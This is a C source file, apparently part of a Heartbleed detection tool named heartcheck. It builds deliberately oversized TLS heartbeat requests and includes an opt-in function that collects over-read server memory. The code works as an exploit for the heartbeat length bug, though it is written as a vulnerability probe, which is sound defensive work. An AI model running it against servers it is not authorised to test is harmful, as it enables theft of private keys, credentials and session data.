#include "probe/kit.h"

#include <openssl/rand.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* Recognisable, different for the two heartbeats, and the same on every run so that captures
 * of heartcheck are easy to read: "heartcheck probe" / "heartcheck f-up " then a counter. */
uint8_t kit_payload_byte(enum kit_record which, size_t i)
{
    static const char tag[2][17] = {"heartcheck probe", "heartcheck f-up "};
    if (i < 16)
        return (uint8_t)tag[which][i];
    return (uint8_t)('a' + (i % 26));
}

bool kit_echoes(enum kit_record which, const uint8_t *payload, size_t len, size_t ours)
{
    len = len < ours ? len : ours;
    for (size_t i = 0; i < len; i++)
        if (payload[i] != kit_payload_byte(which, i))
            return false;
    return len > 0;
}

bool kit_is_echo(const struct probe_kit *kit, enum kit_record which, const uint8_t *payload,
                 size_t len, uint16_t claimed)
{
    uint16_t expected = which == KIT_PROBE ? kit->probe_claim : PROBE_FOLLOWUP_PAYLOAD;
    size_t ours = which == KIT_PROBE ? kit->probe_sent : PROBE_FOLLOWUP_PAYLOAD;
    return claimed == expected && kit_echoes(which, payload, len, ours);
}

size_t kit_collect_leak(const struct probe_kit *kit, uint8_t *leak, size_t *seen,
                        const uint8_t *data, size_t len)
{
    size_t sent = kit->probe_sent, claim = kit->probe_claim;
    for (size_t i = 0; i < len; i++, (*seen)++)
        if (*seen >= sent && *seen < claim)
            leak[*seen - sent] = data[i];
    size_t end = *seen < claim ? *seen : claim;
    return end > sent ? end - sent : 0;
}

void kit_quote(const uint8_t *bytes, size_t n, char *out, size_t cap)
{
    size_t o = 0;
    for (size_t i = 0; i < n && o + 5 < cap; i++) {
        uint8_t c = bytes[i];
        if (c >= 0x20 && c < 0x7f && c != '"' && c != '\\')
            out[o++] = (char)c;
        else
            o += (size_t)snprintf(out + o, cap - o, "\\x%02x", c);
    }
    out[o] = '\0';
}

const char *kit_version_name(uint16_t version)
{
    const char *n = tls_version_name(version);
    return n ? n : "an unknown version";
}

const char *kit_alert_name(uint8_t description)
{
    const char *n = tls_alert_name(description);
    return n ? n : "unknown";
}

static hc_result build(struct probe_kit *kit, enum kit_record which, unsigned v)
{
    size_t payload_len = which == KIT_PROBE ? kit->probe_sent : PROBE_FOLLOWUP_PAYLOAD;
    uint8_t *payload = malloc(payload_len);
    HC_ENSURE(payload, HC_ERR_NOMEM);
    for (size_t i = 0; i < payload_len; i++)
        payload[i] = kit_payload_byte(which, i);
    struct tls_heartbeat_params hb = {
        .record_version = (uint16_t)(TLS_VERSION_SSL3 + v),
        .type = TLS_HEARTBEAT_REQUEST,
        .payload = payload,
        .payload_len = payload_len,
        /* The probe has no padding and claims what it sends (plus any opted-in over-read):
         * only a server without the 1.0.1g length check answers it. The follow-up is
         * well-formed (RFC 6520 section 4: at least 16 bytes of padding). */
        .claimed_length = which == KIT_PROBE ? kit->probe_claim : (uint16_t)payload_len,
        .padding_len = which == KIT_PROBE ? 0 : TLS_HEARTBEAT_MIN_PADDING,
        .padding_byte = 0,
    };
    struct wire_writer w = wire_writer_init(kit->records[which][v], KIT_RECORD_LEN);
    hc_result res = tls_heartbeat_write(&w, &hb);
    kit->record_len[which] = w.len;
    free(payload);
    return res;
}

hc_result probe_kit_new(uint32_t leak_bytes, struct probe_kit **out)
{
    HC_ENSURE(leak_bytes <= PROBE_MAX_LEAK, HC_ERR_USAGE);
    struct probe_kit *kit = calloc(1, sizeof *kit);
    HC_ENSURE(kit, HC_ERR_NOMEM);
    kit->leak_bytes = leak_bytes;
    if (RAND_bytes((unsigned char *)&kit->hello_seed, sizeof kit->hello_seed) != 1)
        kit->hello_seed = (uint64_t)(uintptr_t)kit; /* not a secret: anything differing works */
    kit->probe_sent = leak_bytes <= PROBE_PAYLOAD - PROBE_MIN_SENT
                          ? (uint16_t)(PROBE_PAYLOAD - leak_bytes)
                          : PROBE_MIN_SENT;
    kit->probe_claim = (uint16_t)(kit->probe_sent + leak_bytes);
    for (unsigned v = 0; v < KIT_VERSIONS; v++) {
        hc_result res = build(kit, KIT_PROBE, v);
        if (hc_ok(res))
            res = build(kit, KIT_FOLLOWUP, v);
        if (!hc_ok(res)) {
            free(kit);
            return res;
        }
    }
    *out = kit;
    return HC_SUCCESS;
}

void probe_kit_free(struct probe_kit *kit) { free(kit); }

/* SplitMix64 (Steele, Lea, Flood 2014): a counter through a strong 64-bit mix. */
static uint64_t splitmix64(uint64_t *state)
{
    uint64_t z = (*state += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

void kit_hello_random(struct probe_kit *kit, uint8_t out[32])
{
    uint64_t state = kit->hello_seed ^ (kit->hellos_made++ * 0xd1b54a32d192ed03ull);
    for (size_t i = 0; i < 32; i += 8) {
        uint64_t v = splitmix64(&state);
        memcpy(out + i, &v, 8);
    }
}

void kit_record(const struct probe_kit *kit, enum kit_record which, uint16_t version,
                const uint8_t **data, size_t *len)
{
    unsigned v = version >= TLS_VERSION_SSL3 && version <= TLS_VERSION_TLS12
                     ? (unsigned)(version - TLS_VERSION_SSL3)
                     : KIT_VERSIONS - 1;
    *data = kit->records[which][v];
    *len = kit->record_len[which];
}
